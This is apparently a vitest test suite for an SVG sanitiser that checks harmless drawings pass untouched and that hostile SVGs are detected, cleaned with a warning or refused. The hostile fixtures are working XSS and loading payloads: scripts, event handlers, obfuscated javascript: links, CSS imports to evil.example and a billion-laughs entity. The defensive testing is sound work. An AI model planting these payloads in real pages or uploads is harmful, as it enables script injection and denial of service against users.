import * as fc from 'fast-check'
import sharp from 'sharp'
import { describe, expect, it } from 'vitest'
import { findActive } from '../../../src/files/svg-check.js'
import { openFiles, planned, type TestFiles } from '../../support/files.js'
import { halvesSvg, near, pixel } from '../../support/pictures.js'

const open = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="60">'
const drawing = '<rect id="ground" width="90" height="60" fill="red"/>'
const svg = (inside: string) => `${open}${drawing}${inside}</svg>`

const harmless: Record<string, string> = {
  plain: svg(''),
  prolog: `<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!-- Drawn -->\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n${svg('')}`,
  style: svg('<style>.a{fill:url(#g)} @media (prefers-color-scheme: dark){.a{fill:#fff}}</style>'),
  'style as CDATA': svg('<style><![CDATA[.a > .b{fill:red}]]></style>'),
  gradient: svg('<defs><linearGradient id="after"><stop offset="0"/></linearGradient></defs><path fill="url(#after)" d="M0 0h9v9z"/>'),
  use: svg('<use xlink:href="#ground" x="3"/><use href="#ground"/>'),
  picture: svg('<image href="data:image/png;base64,iVBORw0KGgo=" width="3"/>'),
  animation: svg('<animate href="#ground" attributeName="x" from="0" to="9" dur="1s" begin="ground.click"/>'),
  inkscape: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" sodipodi:docname="a.svg"><sodipodi:namedview pagecolor="#fff"/></svg>`,
}

/** Each runs a script, calls elsewhere, or hides one of these, somewhere. */
const hostile: Record<string, string> = {
  script: svg('<script>parent.hit(1)</script>'),
  'script by address': svg('<script href="https://evil.example/x.js"/>'),
  'script with a prefix': `<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>hit()</x:script></x:svg>`,
  'script of HTML': svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">hit()</h:script>'),
  onload: `<svg xmlns="http://www.w3.org/2000/svg" onload="hit()">${drawing}</svg>`,
  'ONLOAD with entities': svg('<rect onclick="&#104;it()"/>'),
  foreignObject: svg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="hit()"/></body></foreignObject>'),
  'javascript link': svg('<a href="javascript:hit()"><rect width="9" height="9"/></a>'),
  'javascript link with a tab': svg('<a xlink:href="java&#9;script:hit()"><rect width="9" height="9"/></a>'),
  'animated link': svg('<a><animate attributeName="href" to="javascript:hit()"/><rect width="9" height="9"/></a>'),
  'set handler': svg('<set attributeName="onmouseover" to="hit()"/>'),
  'external picture': svg('<image href="https://evil.example/pixel.png"/>'),
  'external use': svg('<use href="https://evil.example/a.svg#b"/>'),
  'data use': svg('<use href="data:image/svg+xml;base64,PHN2Zy8+#x"/>'),
  'external filter': svg('<filter id="f"><feImage href="//evil.example/a.png"/></filter>'),
  'external fill': svg('<rect fill="url(https://evil.example/a.svg#b)"/>'),
  'style import': svg('<style>@import "https://evil.example/a.css";</style>'),
  'style address': svg('<style>rect{fill:url("https://evil.example/a.svg#b")}</style>'),
  'style escape': svg('<style>rect{fill:u\\72l(https://evil.example/a)}</style>'),
  'style entity': svg('<style>&#64;import "https://evil.example/a.css";</style>'),
  'style attribute': svg('<rect style="background:image-set(\'https://evil.example/a.png\' 1x)"/>'),
  'style font': svg('<style>@font-face{font-family:x;src:url(https://evil.example/a.woff)}</style>'),
  entities: `<!DOCTYPE svg [<!ENTITY a "hit()">]>${svg('')}`,
  'billion laughs': `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>${svg('<text>&b;</text>')}`,
  stylesheet: `<?xml-stylesheet href="https://evil.example/a.xsl"?>${svg('')}`,
  'xml:base': `<svg xmlns="http://www.w3.org/2000/svg" xml:base="https://evil.example/">${drawing}</svg>`,
  'another charset': `<?xml version="1.0" encoding="ISO-8859-1"?>${svg('')}`,
  'comment that HTML ends': svg('<!--> <img src="x" onerror="hit()"/> -->'),
  'inert without prefix': svg('<g xmlns="http://ns.adobe.com/x"><script>hit()</script></g>'),
  'title with HTML': svg('<title><![CDATA[</title><img src=x onerror=hit()>]]></title>'),
  iframe: svg('<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/>'),
}

const asset = { type: 'SVG', width: 90, height: 60, name: 'Logo' }

async function emitted(text: string, query = '', policy: 'sanitize' | 'strict' | 'trust' = 'sanitize') {
  return emittedBy(await openFiles({ SVG: Buffer.from(text) }), asset.name, query, policy)
}

async function emittedBy(files: TestFiles, uuid: string, query: string, policy: 'sanitize' | 'strict' | 'trust' = 'sanitize') {
  const { src, value } = planned({ ...asset, uuid }, query, policy)
  if (!src) throw new Error('no src')
  return { text: value ? await files.value(value) : Buffer.from(await files.bytes(src)).toString(), warnings: files.warnings }
}

describe('harmless files', () => {
  it.each(Object.entries(harmless))('pass byte for byte: %s', async (_, text) => {
    expect(findActive(Buffer.from(text))).toEqual([])
    for (const policy of ['sanitize', 'strict'] as const) expect(await emitted(text, '', policy)).toEqual({ text, warnings: [] })
  })

  it('may be empty', async () => {
    const files = await openFiles({ SVG: Buffer.alloc(0) })
    const { src } = planned({ ...asset, size: 0 }, '')
    expect(src && (await files.bytes(src))).toHaveLength(0)
  })
})

describe('hostile files', () => {
  it.each(Object.entries(hostile))('are found: %s', (_, text) => {
    expect(findActive(Buffer.from(text))).not.toEqual([])
  })

  it.each(['', 'raw', 'svgo', 'inline'])('are sanitised as ?%s with a warning, or refused when nothing is left', async (query) => {
    const content: Record<string, Buffer> = { SVG: Buffer.of() }
    const files = await openFiles(content)
    for (const [name, text] of Object.entries(hostile)) {
      content['SVG'] = Buffer.from(text)
      files.warnings.length = 0
      const result = await emittedBy(files, name, query).catch((error: unknown) => ({ error }))
      if ('error' in result) {
        expect([name, result.error]).toEqual([name, expect.objectContaining({ code: 'conversionFailed' })])
        continue
      }
      const { text: clean, warnings } = result
      const plain = clean.startsWith('data:') ? Buffer.from(clean.split(',')[1] ?? '', 'base64') : Buffer.from(clean)
      expect([name, findActive(plain)]).toEqual([name, []])
      expect(plain.toString()).not.toMatch(/hit\(|evil\.example/)
      expect(warnings).toEqual([expect.stringMatching(/^Logo is an SVG that holds .*sanitised/)])
    }
  })

  it('keep their drawing', async () => {
    const { text } = await emitted(Buffer.from(halvesSvg).toString().replace('</svg>', '<script>hit()</script></svg>'))
    const png = await sharp(Buffer.from(text)).png().toBuffer()
    expect(near(await pixel(png, 10, 10), [255, 0, 0, 255])).toBe(true)
    expect(near(await pixel(png, 80, 10), [0, 0, 255, 255])).toBe(true)
  })

  it('are refused under strict, and pass when trusted', async () => {
    const text = hostile['script'] ?? ''
    await expect(emitted(text, '', 'strict')).rejects.toMatchObject({ code: 'unsafeSvg', message: expect.stringContaining('Logo') })
    expect(await emitted(text, '', 'trust')).toEqual({ text, warnings: [] })
  })

  it('are the same when sanitised twice', async () => {
    const { text } = await emitted(hostile['foreignObject'] ?? '')
    expect((await emitted(text)).text).toBe(text)
  })
})

describe('the check', () => {
  it('reads anything without throwing', () => {
    fc.assert(fc.property(fc.uint8Array({ maxLength: 200 }), fc.string(), (bytes, text) => {
      expect(findActive(bytes)).toBeInstanceOf(Array)
      expect(findActive(Buffer.from(svg(text)))).toBeInstanceOf(Array)
    }))
  })
})

describe('inlined ids', () => {
  const text = svg(
    '<style>#ground{fill:red}.a{fill:blue}</style><linearGradient id="g"/><rect class="a" fill="url(#g)" style="stroke:url(#g)" aria-labelledby="t g"/>' +
      '<title id="t">T</title><use xlink:href="#ground"/><animate href="#ground" attributeName="x" begin="ground.click; g.end+1s; 0.5s" to="1"/>',
  )

  it('have a prefix, and so has all that refers to them', async () => {
    const { text: raw } = await emitted(text, 'raw')
    const ids = [...raw.matchAll(/ id="([^"]+)"/g)].map(([, id]) => id)
    const prefix = ids[0]?.split('-')[0] ?? ''
    expect(ids).toEqual(['ground', 'g', 't'].map((id) => `${prefix}-${id}`))
    for (const reference of ['#X-ground{', 'url(#X-g)', 'stroke:url(#X-g)', 'aria-labelledby="X-t X-g"', 'href="#X-ground"', 'X-ground.click', 'X-g.end+1s', ' 0.5s', 'class="X-a"', '.X-a{']) {
      expect(raw).toContain(reference.replaceAll('X', prefix))
    }
  })

  it('are left alone in files', async () => {
    expect((await emitted(text)).text).toBe(text)
  })

  it('keep their prefix when optimised', async () => {
    const { text: raw } = await emitted(text, 'raw&svgo')
    expect(raw).toMatch(/id="c[\da-f]{7}-/)
    expect(raw.length).toBeLessThan((await emitted(text, 'raw')).text.length)
  })
})
